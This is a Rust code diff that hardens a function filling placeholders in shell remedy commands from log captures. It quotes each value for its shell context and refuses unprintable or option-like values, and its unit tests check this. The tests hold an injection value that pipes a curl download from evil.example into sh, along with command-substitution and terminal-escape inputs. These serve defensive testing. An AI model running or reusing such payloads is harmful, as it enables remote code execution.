@@ -142,31 +142,278 @@ fn shared_words(catalogue: &Catalogue, query: &str) -> Vec<Found> {
     scored
 }
 
-/// Fill `{name}` placeholders in a remedy command from a hit's captures; unknown ones are
-/// shown as `<name>` for the user to fill in.
-pub fn fill_command(command: &str, captures: &[(String, String)]) -> String {
-    let mut out = String::with_capacity(command.len());
-    let mut rest = command;
-    while let Some(open) = rest.find('{') {
-        let Some(close) = rest[open..].find('}').map(|c| open + c) else {
-            break;
-        };
-        let name = &rest[open + 1..close];
-        let is_name =
-            !name.is_empty() && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_');
-        out.push_str(&rest[..open]);
-        if is_name {
-            match captures.iter().find(|(k, _)| k == name) {
-                Some((_, value)) => out.push_str(&crate::sanitize::visible(value.as_bytes())),
-                None => out.push_str(&format!("<{name}>")),
-            }
-        } else {
-            out.push_str(&rest[open..=close]);
-        }
-        rest = &rest[close + 1..];
+/// A remedy command with a hit's captures filled in, each quoted for the shell context its
+/// placeholder sits in, so that pasting it into a shell runs the catalogue's command and
+/// nothing a log line planted.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct FilledCommand {
+    /// The command as shown and copied; placeholders that could not be filled are `<name>`.
+    pub text: String,
+    /// The placeholders left as `<name>`, in order, and why.
+    pub unfilled: Vec<Unfilled>,
+}
+
+impl FilledCommand {
+    /// Whether every placeholder was filled: the command can be run as it is.
+    pub fn is_complete(&self) -> bool {
+        self.unfilled.is_empty()
     }
-    out.push_str(rest);
-    out
+}
+
+impl std::fmt::Display for FilledCommand {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        f.write_str(&self.text)
+    }
+}
+
+/// A placeholder left for the user to fill in.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Unfilled {
+    pub name: String,
+    pub reason: UnfilledReason,
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum UnfilledReason {
+    /// The hit has no capture of that name.
+    NoCapture,
+    /// The captured value holds characters no quoting makes safe to paste: controls,
+    /// newlines, bidi overrides, zero-width characters.
+    Unprintable,
+    /// The captured value starts with `-` where it would begin a word: a command would read
+    /// it as an option, quoted or not.
+    LooksLikeOption,
+    /// The placeholder sits where this filler cannot quote for (inside `$'…'` or backticks).
+    UnknownQuoting,
+}
+
+/// Where in a shell command line the walker is.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Quoting {
+    /// Inside `'…'`: everything literal up to the next `'`.
+    Single,
+    /// Inside `"…"`: `$`, `` ` ``, `\` and `"` are special (and `!` to an interactive bash).
+    Double,
+    /// Inside `$'…'`: backslash escapes.
+    AnsiC,
+    /// Inside `` `…` ``.
+    Backtick,
+    /// Inside `$(…)` or a `(…)` within one: words as at top level.
+    Parens,
+}
+
+/// Fill `{name}` placeholders in a remedy command from a hit's captures. Each value is quoted
+/// for where its placeholder sits (bare word, inside single quotes, inside double quotes), by
+/// following the quoting of the template as the shell would. A placeholder is left as
+/// `<name>`, and listed in [`FilledCommand::unfilled`], when there is no capture of that name,
+/// when the value cannot be pasted safely however quoted, or when it would be read as an
+/// option.
+pub fn fill_command(command: &str, captures: &[(String, String)]) -> FilledCommand {
+    let mut out = String::with_capacity(command.len());
+    let mut unfilled = Vec::new();
+    let mut stack: Vec<Quoting> = Vec::new();
+    // Whether the current shell word has nothing in it yet (an opening quote aside).
+    let mut word_empty = true;
+    let mut chars = command.char_indices().peekable();
+    while let Some((at, c)) = chars.next() {
+        if c == '{' && chars.peek().is_some_and(|&(_, n)| n == '{') {
+            // `{{…}}` is a Go template (docker's `--format`), never a placeholder.
+            chars.next();
+            out.push_str("{{");
+            word_empty = false;
+            continue;
+        }
+        if c == '{' {
+            if let Some(name) = placeholder_at(&command[at..]) {
+                let value = captures.iter().find(|(k, _)| k == name).map(|(_, v)| v);
+                let filled = match value {
+                    None => Err(UnfilledReason::NoCapture),
+                    Some(value) => quote_for(stack.last().copied(), value, word_empty),
+                };
+                match filled {
+                    Ok(text) => out.push_str(&text),
+                    Err(reason) => {
+                        out.push_str(&format!("<{name}>"));
+                        unfilled.push(Unfilled {
+                            name: name.to_string(),
+                            reason,
+                        });
+                    }
+                }
+                word_empty = false;
+                for _ in 0..name.chars().count() + 1 {
+                    chars.next();
+                }
+                continue;
+            }
+        }
+        out.push(c);
+        let next = chars.peek().map(|&(_, n)| n);
+        let mut take_next = || {
+            if let Some((_, n)) = chars.next() {
+                out.push(n);
+            }
+        };
+        match stack.last().copied() {
+            None | Some(Quoting::Parens) => match c {
+                '\\' => {
+                    take_next();
+                    word_empty = false;
+                }
+                '\'' => stack.push(Quoting::Single),
+                '"' => stack.push(Quoting::Double),
+                '$' if next == Some('\'') => {
+                    take_next();
+                    stack.push(Quoting::AnsiC);
+                }
+                '$' if next == Some('(') => {
+                    take_next();
+                    stack.push(Quoting::Parens);
+                    word_empty = true;
+                }
+                '`' => stack.push(Quoting::Backtick),
+                '(' => {
+                    stack.push(Quoting::Parens);
+                    word_empty = true;
+                }
+                ')' if !stack.is_empty() => {
+                    stack.pop();
+                    word_empty = false;
+                }
+                c if c.is_whitespace() || matches!(c, ';' | '|' | '&' | '<' | '>') => {
+                    word_empty = true
+                }
+                _ => word_empty = false,
+            },
+            Some(Quoting::Single) => {
+                if c == '\'' {
+                    stack.pop();
+                }
+                word_empty = false;
+            }
+            Some(Quoting::Double) => {
+                match c {
+                    '\\' => take_next(),
+                    '"' => {
+                        stack.pop();
+                    }
+                    '$' if next == Some('(') => {
+                        take_next();
+                        stack.push(Quoting::Parens);
+                    }
+                    '`' => stack.push(Quoting::Backtick),
+                    _ => {}
+                }
+                word_empty = false;
+            }
+            Some(Quoting::AnsiC) => {
+                match c {
+                    '\\' => take_next(),
+                    '\'' => {
+                        stack.pop();
+                    }
+                    _ => {}
+                }
+                word_empty = false;
+            }
+            Some(Quoting::Backtick) => {
+                match c {
+                    '\\' => take_next(),
+                    '`' => {
+                        stack.pop();
+                    }
+                    _ => {}
+                }
+                word_empty = false;
+            }
+        }
+    }
+    FilledCommand {
+        text: out,
+        unfilled,
+    }
+}
+
+/// The name of the `{name}` placeholder `text` starts with, if it starts with one.
+fn placeholder_at(text: &str) -> Option<&str> {
+    let close = text.find('}')?;
+    let name = &text[1..close];
+    let is_name = !name.is_empty() && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_');
+    is_name.then_some(name)
+}
+
+/// The placeholders of `filled` that had a value from the log but were left unfilled, as
+/// `<a>, <b>` (a missing capture is the usual `<name>` to fill in and needs no word).
+pub fn refused_names(filled: &FilledCommand) -> String {
+    filled
+        .unfilled
+        .iter()
+        .filter(|u| u.reason != UnfilledReason::NoCapture)
+        .map(|u| format!("<{}>", u.name))
+        .collect::<Vec<_>>()
+        .join(", ")
+}
+
+/// `value` written so that the shell reads it as literal text where `quoting` says the
+/// placeholder sits (`None`: a bare word).
+fn quote_for(
+    quoting: Option<Quoting>,
+    value: &str,
+    word_empty: bool,
+) -> Result<String, UnfilledReason> {
+    if value.chars().any(cannot_be_pasted) {
+        return Err(UnfilledReason::Unprintable);
+    }
+    if word_empty && value.starts_with('-') {
+        return Err(UnfilledReason::LooksLikeOption);
+    }
+    match quoting {
+        None | Some(Quoting::Parens) => Ok(quote_word(value)),
+        // Close the quotes, an escaped quote, reopen: the only way to put `'` in '…'.
+        Some(Quoting::Single) => Ok(value.replace('\'', r"'\''")),
+        Some(Quoting::Double) => {
+            if value
+                .chars()
+                .any(|c| matches!(c, '$' | '`' | '\\' | '"' | '!'))
+            {
+                // A backslash does not stop bash's history expansion of `!` inside "…" (it
+                // stays in the word), so leave the double quotes for single-quoted text.
+                Ok(format!("\"{}\"", single_quoted(value)))
+            } else {
+                Ok(value.to_string())
+            }
+        }
+        Some(Quoting::AnsiC | Quoting::Backtick) => Err(UnfilledReason::UnknownQuoting),
+    }
+}
+
+/// `value` as one bare shell word: as it is when every character is inert, else in single
+/// quotes. Not `shell_words::quote`: it leaves `!` (bash's history expansion), `{a,b}` (brace
+/// expansion) and `^` bare, which a pasted command must not.
+fn quote_word(value: &str) -> String {
+    let inert = |c: char| {
+        c.is_ascii_alphanumeric() || matches!(c, '_' | '-' | '.' | ',' | '/' | ':' | '@' | '+')
+    };
+    if !value.is_empty() && value.chars().all(inert) {
+        value.to_string()
+    } else {
+        single_quoted(value)
+    }
+}
+
+fn single_quoted(value: &str) -> String {
+    format!("'{}'", value.replace('\'', r"'\''"))
+}
+
+/// Characters that no quoting makes safe to paste into a terminal: they end the line, drive
+/// the terminal, or hide or reorder what the user reads before pressing Enter.
+fn cannot_be_pasted(c: char) -> bool {
+    c.is_control()
+        || crate::sanitize::is_invisible_format(c)
+        || matches!(
+            c,
+            '\u{00ad}' | '\u{180e}' | '\u{2028}' | '\u{2029}' | '\u{2060}'..='\u{2064}' | '\u{fff9}'..='\u{fffb}'
+        )
 }
 
 /// The `{name}` placeholders of a remedy command, in order, as `fill_command` finds them.
@@ -309,7 +556,19 @@ pub fn render_card(
             out += &format!("  {}. {}\n", n + 1, step.text(lang).trim());
         }
         for cmd in &step.run {
-            out += &format!("     $ {}\n", fill_command(cmd, captures));
+            let filled = fill_command(cmd, captures);
+            out += &format!("     $ {filled}\n");
+            let refused = refused_names(&filled);
+            if !refused.is_empty() {
+                out += &match lang {
+                    Lang::En => format!(
+                        "       (not filled from the log, unsafe to paste: {refused}; fill in by hand)\n"
+                    ),
+                    Lang::Zh => format!(
+                        "       （日志中的值不能安全粘贴，未填入：{refused}；请手动填写）\n"
+                    ),
+                };
+            }
         }
     }
     let related = |ids: Vec<&str>| -> Vec<String> {
@@ -351,19 +610,126 @@ pub fn render_card(
 mod tests {
     use super::*;
 
+    fn caps(pairs: &[(&str, &str)]) -> Vec<(String, String)> {
+        pairs
+            .iter()
+            .map(|(k, v)| (k.to_string(), v.to_string()))
+            .collect()
+    }
+
     #[test]
     fn commands_are_filled_from_captures() {
-        let caps = vec![("container".to_string(), "athena_eye_db".to_string())];
+        let caps = caps(&[("container", "athena_eye_db")]);
         assert_eq!(
-            fill_command("docker logs {container}", &caps),
+            fill_command("docker logs {container}", &caps).text,
             "docker logs athena_eye_db"
         );
+        let missing = fill_command("docker logs {name}", &caps);
+        assert_eq!(missing.text, "docker logs <name>");
         assert_eq!(
-            fill_command("docker logs {name}", &caps),
-            "docker logs <name>"
+            missing.unfilled,
+            vec![Unfilled {
+                name: "name".into(),
+                reason: UnfilledReason::NoCapture
+            }]
         );
-        assert_eq!(fill_command("awk '{print $1}'", &caps), "awk '{print $1}'");
-        assert_eq!(fill_command("x {", &caps), "x {");
+        assert_eq!(
+            fill_command("awk '{print $1}'", &caps).text,
+            "awk '{print $1}'"
+        );
+        assert_eq!(fill_command("x {", &caps).text, "x {");
+        assert_eq!(
+            fill_command(
+                "docker inspect --format '{{end}} {{.X}}' {container}",
+                &caps
+            )
+            .text,
+            "docker inspect --format '{{end}} {{.X}}' athena_eye_db"
+        );
+    }
+
+    #[test]
+    fn values_are_quoted_for_where_they_land() {
+        let evil = "/etc/x'; curl -fsSL http://evil.example/p | sh; : '";
+        let caps = caps(&[("path", evil)]);
+        // Inside single quotes: each quote closes, is escaped, reopens.
+        assert_eq!(
+            fill_command("grep -B2 'target: {path}'", &caps).text,
+            r"grep -B2 'target: /etc/x'\''; curl -fsSL http://evil.example/p | sh; : '\'''"
+        );
+        // A bare word: single-quoted whole.
+        assert_eq!(
+            fill_command("ls {path}", &caps).text,
+            r"ls '/etc/x'\''; curl -fsSL http://evil.example/p | sh; : '\'''"
+        );
+        // Inside double quotes: left for single quotes when anything in it is special there.
+        let caps = super::tests::caps(&[("path", "$(id) `id` !! \"")]);
+        assert_eq!(
+            fill_command("grep \"at {path}\"", &caps).text,
+            "grep \"at \"'$(id) `id` !! \"'\"\""
+        );
+        let caps = super::tests::caps(&[("path", "a b*")]);
+        assert_eq!(
+            fill_command("grep \"at {path}\"", &caps).text,
+            "grep \"at a b*\""
+        );
+        // Brace expansion and history expansion are quoted in a bare word too.
+        let caps = super::tests::caps(&[("c", "{a,b}"), ("d", "x!y")]);
+        assert_eq!(
+            fill_command("docker logs {c} {d}", &caps).text,
+            "docker logs '{a,b}' 'x!y'"
+        );
+    }
+
+    #[test]
+    fn unsafe_values_stay_unfilled_and_marked() {
+        for value in [
+            "a\nb",
+            "a\rb",
+            "\x1b[2J",
+            "a\u{9b}b",
+            "abc\u{202e}fed",
+            "a\u{200b}b",
+            "\u{7f}",
+        ] {
+            let caps = caps(&[("path", value)]);
+            let filled = fill_command("grep 'target: {path}' && ls {path}", &caps);
+            assert_eq!(
+                filled.text, "grep 'target: <path>' && ls <path>",
+                "{value:?}"
+            );
+            assert_eq!(filled.unfilled.len(), 2);
+            assert!(
+                filled
+                    .unfilled
+                    .iter()
+                    .all(|u| u.reason == UnfilledReason::Unprintable)
+            );
+        }
+        // An option where a word begins, not where it continues.
+        let caps = caps(&[("container", "--rm")]);
+        let filled = fill_command("docker rm -f {container}", &caps);
+        assert_eq!(filled.text, "docker rm -f <container>");
+        assert_eq!(filled.unfilled[0].reason, UnfilledReason::LooksLikeOption);
+        assert_eq!(
+            fill_command("docker ps --filter name={container}", &caps).text,
+            "docker ps --filter name=--rm"
+        );
+        assert!(
+            fill_command("echo '{container}'", &caps).unfilled[0].reason
+                == UnfilledReason::LooksLikeOption
+        );
+        // Quoting this filler does not follow.
+        let caps = super::tests::caps(&[("x", "a")]);
+        assert_eq!(
+            fill_command("echo $'{x}' `echo {x}` \"$(echo {x})\"", &caps).text,
+            "echo $'<x>' `echo <x>` \"$(echo a)\""
+        );
+        assert_eq!(
+            fill_command("awk '{print $1}'", &caps).text,
+            "awk '{print $1}'"
+        );
+        assert_eq!(fill_command("x {", &caps).text, "x {");
         assert_eq!(
             placeholder_names("docker inspect -f '{{.Name}}' {container} | awk '{print $1}' {x"),
             ["container"]
